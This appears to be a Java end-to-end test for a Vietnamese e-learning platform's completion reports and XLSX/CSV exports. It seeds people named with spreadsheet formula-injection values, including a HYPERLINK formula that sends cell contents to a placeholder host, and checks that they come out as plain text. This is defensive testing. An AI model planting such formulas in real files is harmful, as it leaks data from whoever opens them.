package vn.hocso.e2e;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.quarkus.hibernate.orm.panache.Panache;
import io.quarkus.narayana.jta.QuarkusTransaction;
import io.quarkus.test.junit.QuarkusTest;
import io.quarkus.test.junit.TestProfile;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.UUID;
import java.util.concurrent.TimeUnit;
import java.util.stream.Collectors;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.openqa.selenium.By;
import org.openqa.selenium.WebDriver;
import org.openqa.selenium.support.ui.ExpectedConditions;
import org.openqa.selenium.support.ui.Select;
import org.openqa.selenium.support.ui.WebDriverWait;
import vn.hocso.org.OrgUnit;

/**
 * Completion reports in the browser: donvi (unit admin of Quảng Ninh) opens the province's report, drills down to a
 * commune and its people, and exports XLSX and CSV; quantri exports the national list of a course in the background
 * (the test profile's threshold is 10 rows), watches the progress on "my exports", downloads it, and LibreOffice
 * opens the file with the Vietnamese and formula-looking names as text.
 */
@QuarkusTest
@TestProfile(RealKeycloakProfile.class)
@Tag("e2e")
class ReportsInBrowserTest {

    static final String APP = "http://127.0.0.1:" + RealKeycloakProfile.PORT;
    static final List<String> HOSTILE = List.of("=HYPERLINK(\"http://x?\"&A1,\"x\")", "+1", "-2+3", "@SUM(A1)");
    static final String VIETNAMESE = "Đặng Thị Ánh Tuyết";

    WebDriver browser;
    WebDriverWait wait;
    String tag;
    long commune;
    long bigCourse;
    long smallCourse;

    @BeforeEach
    void aCommuneOfQuangNinhWithPeople() {
        tag = UUID.randomUUID().toString().substring(0, 6);
        QuarkusTransaction.requiringNew().run(() -> {
            var em = Panache.getEntityManager();
            OrgUnit province = OrgUnit.findCurrentByCode("22").orElseThrow();
            commune = ((Number) em.createNativeQuery("""
                            insert into org_unit (code, name, kind, parent_id, path, valid_from)
                            values (?1, ?2, 'commune', ?3, '', date '2022-01-01') returning id""")
                            .setParameter(1, "B" + tag)
                            .setParameter(2, "Xã Trình Duyệt " + tag)
                            .setParameter(3, province.id)
                            .getSingleResult())
                    .longValue();
            em.createNativeQuery("update org_unit set path = ?1 where id = ?2")
                    .setParameter(1, province.path + commune + "/")
                    .setParameter(2, commune)
                    .executeUpdate();
            bigCourse = course(em, "Khóa toàn quốc " + tag);
            smallCourse = course(em, "Khóa nhỏ " + tag);
            List<String> names = new java.util.ArrayList<>(List.of(VIETNAMESE, "Nguyễn Văn Hùng " + tag));
            names.addAll(HOSTILE);
            for (int i = 0; names.size() < 12; i++) {
                names.add("Lê Thị Hương " + i + " " + tag);
            }
            for (int i = 0; i < names.size(); i++) {
                long person = ((Number) em.createNativeQuery("""
                                insert into person (full_name, email, unit_id, target_group)
                                values (?1, ?2, ?3, 'civil-servant') returning id""")
                                .setParameter(1, names.get(i))
                                .setParameter(2, tag + i + "@example.vn")
                                .setParameter(3, commune)
                                .getSingleResult())
                        .longValue();
                enrol(em, person, bigCourse, i % 2 == 0);
                if (i < 3) {
                    enrol(em, person, smallCourse, i == 0);
                }
            }
        });
    }

    private static long course(jakarta.persistence.EntityManager em, String title) {
        return ((Number) em.createNativeQuery("""
                        insert into course (slug, title_vi, summary_vi, category_code, level, status)
                        values (?1, ?2, 'Khóa học cho báo cáo', 'ky-nang-so', 'basic', 'published') returning id""")
                        .setParameter(
                                1, "bao-cao-" + UUID.randomUUID().toString().substring(0, 8))
                        .setParameter(2, title)
                        .getSingleResult())
                .longValue();
    }

    private static void enrol(jakarta.persistence.EntityManager em, long person, long course, boolean completed) {
        em.createNativeQuery("""
                insert into enrolment (person_id, course_id, source, enrolled_at, completed_at, last_seen_at)
                values (?1, ?2, 'self', now() - interval '20 days', ?3, now() - interval '10 days')""")
                .setParameter(1, person)
                .setParameter(2, course)
                .setParameter(3, completed ? java.time.OffsetDateTime.now().minusDays(10) : null)
                .executeUpdate();
    }

    @BeforeEach
    void openBrowser() {
        browser = Chromium.open(412, 900);
        wait = new WebDriverWait(browser, Duration.ofSeconds(30));
    }

    @AfterEach
    void closeBrowser() {
        if (browser != null) {
            browser.quit();
        }
    }

    /** Signs in from /reports, completing the profile on a first sign-in. */
    private void signInToReports(String user) {
        browser.get(APP + "/reports");
        Chromium.signIn(browser, wait, user);
        wait.until(ExpectedConditions.or(
                ExpectedConditions.urlContains("/profile"), ExpectedConditions.urlContains("/reports")));
        if (browser.getCurrentUrl().contains("/profile")) {
            Chromium.settle(wait);
            new Select(browser.findElement(By.id("unitId"))).selectByVisibleText("Thành phố Hà Nội");
            Chromium.click(wait, By.cssSelector("input[name=targetGroup][value=civil-servant]"));
            Chromium.click(wait, By.cssSelector("form.form button[type=submit]"));
            wait.until(ExpectedConditions.not(ExpectedConditions.urlContains("/profile")));
        }
    }

    /** Follows a link with the browser's session, as its download would, following redirects (a presigned link). */
    private byte[] download(String href) throws Exception {
        String cookies = browser.manage().getCookies().stream()
                .map(c -> c.getName() + "=" + c.getValue())
                .collect(Collectors.joining("; "));
        HttpResponse<byte[]> r = HttpClient.newBuilder()
                .followRedirects(HttpClient.Redirect.NORMAL)
                .build()
                .send(
                        HttpRequest.newBuilder(URI.create(href))
                                .header("Cookie", cookies)
                                .build(),
                        HttpResponse.BodyHandlers.ofByteArray());
        assertEquals(200, r.statusCode(), href);
        return r.body();
    }

    @Test
    void aUnitAdminDrillsDownAndExportsAndTheAdminExportsTheNationalListInTheBackground() throws Exception {
        signInToReports("donvi");
        QuarkusTransaction.requiringNew()
                .run(() -> Panache.getEntityManager().createNativeQuery("""
                                insert into unit_admin_grant (person_id, unit_id, granted_by)
                                select p.id, u.id, 'test' from person p, org_unit u
                                where p.email = 'donvi@demo.hocso.vn' and u.code = '22' and u.valid_to is null
                                on conflict do nothing""").executeUpdate());
        browser.get(APP + "/reports");
        Chromium.click(wait, By.linkText("Quảng Ninh"));
        wait.until(ExpectedConditions.visibilityOfElementLocated(By.cssSelector("table.report")));
        Chromium.click(wait, By.linkText("Xã Trình Duyệt " + tag));
        wait.until(ExpectedConditions.urlContains("/reports/units/" + commune));
        // the small course's people: three, so the exports stream at once
        browser.get(APP + "/reports/units/" + commune + "/people?course=" + smallCourse);
        wait.until(ExpectedConditions.visibilityOfElementLocated(By.cssSelector("table.report")));
        String people = browser.findElement(By.cssSelector("table.report")).getText();
        assertTrue(people.contains(VIETNAMESE), people);
        assertTrue(people.contains("=HYPERLINK"), people);
        String xlsxHref = browser.findElement(By.partialLinkText("XLSX")).getAttribute("href");
        String csvHref = browser.findElement(By.partialLinkText("CSV")).getAttribute("href");
        byte[] xlsx = download(xlsxHref);
        assertEquals("PK", new String(xlsx, 0, 2, StandardCharsets.ISO_8859_1), "a zip (XLSX)");
        String csv = new String(download(csvHref), StandardCharsets.UTF_8);
        assertTrue(csv.startsWith("\uFEFF"), "a byte-order mark");
        assertTrue(csv.contains(VIETNAMESE), csv);
        Chromium.assertNoCspViolations(browser);
        browser.quit();

        browser = Chromium.open(412, 900);
        wait = new WebDriverWait(browser, Duration.ofSeconds(30));
        signInToReports("quantri");
        long root = QuarkusTransaction.requiringNew().call(() -> OrgUnit.getRoot().id);
        browser.get(APP + "/reports/units/" + root + "/people?course=" + bigCourse);
        Chromium.click(wait, By.partialLinkText("XLSX"));
        // twelve rows: more than the threshold, so the export is offered in the background
        Chromium.click(wait, By.cssSelector("form button[type=submit].button"));
        wait.until(ExpectedConditions.urlContains("/reports/exports"));
        assertTrue(
                browser.findElement(By.cssSelector("table.exports")).getText().contains("hoc-vien-"));
        // the page reloads itself (refresh.js) until the worker has written the file
        WebElementWait.until(browser, Duration.ofSeconds(120), By.cssSelector("tr[data-status=done] a.button"));
        String progress = browser.findElement(By.cssSelector("tr[data-status=done] progress"))
                .getAttribute("value");
        assertEquals("12", progress);
        byte[] file = download(browser.findElement(By.cssSelector("tr[data-status=done] a.button"))
                .getAttribute("href"));
        Chromium.assertNoCspViolations(browser);

        Path dir = Files.createTempDirectory("hocso-report-e2e");
        Path xlsxFile = dir.resolve("national.xlsx");
        Files.write(xlsxFile, file);
        Process lo = new ProcessBuilder(
                        "soffice",
                        "-env:UserInstallation=file://" + dir.resolve("profile"),
                        "--headless",
                        "--convert-to",
                        "csv:Text - txt - csv (StarCalc):44,34,76",
                        "--outdir",
                        dir.toString(),
                        xlsxFile.toString())
                .redirectErrorStream(true)
                .start();
        String log = new String(lo.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
        assertTrue(lo.waitFor(180, TimeUnit.SECONDS), "LibreOffice finished");
        String converted = Files.readString(dir.resolve("national.csv"), StandardCharsets.UTF_8);
        assertTrue(converted.contains(VIETNAMESE), log + converted);
        assertTrue(converted.contains("=HYPERLINK(\"\"http://x?\"\"&A1,\"\"x\"\")"), converted);
        assertTrue(converted.contains("-2+3"), converted);
        assertTrue(converted.contains("@SUM(A1)"), converted);
        assertTrue(converted.contains("\n+1,") || converted.contains("\"+1\""), converted);
    }

    /** Waits for an element on a page that reloads itself. */
    static final class WebElementWait {
        private WebElementWait() {}

        static void until(WebDriver browser, Duration timeout, By by) {
            new WebDriverWait(browser, timeout)
                    .ignoring(org.openqa.selenium.StaleElementReferenceException.class)
                    .until(driver -> !driver.findElements(by).isEmpty());
        }
    }
}
